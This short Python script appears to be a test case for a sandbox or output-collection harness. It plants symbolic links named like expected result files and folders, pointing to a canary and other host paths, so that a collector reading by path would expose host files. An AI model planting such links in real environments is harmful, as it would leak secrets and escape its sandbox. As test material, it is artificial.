# Leaves a link of the name of an output, and a linked folder: who collects by path reads a file of the host.
# severity: critical
# escape: secret
import os

from raw import A, tried

os.symlink(A.canary, "result.txt")
os.symlink(A.around, "results")
os.mkdir("real")
os.symlink(A.canary, "real/report.csv")
tried()
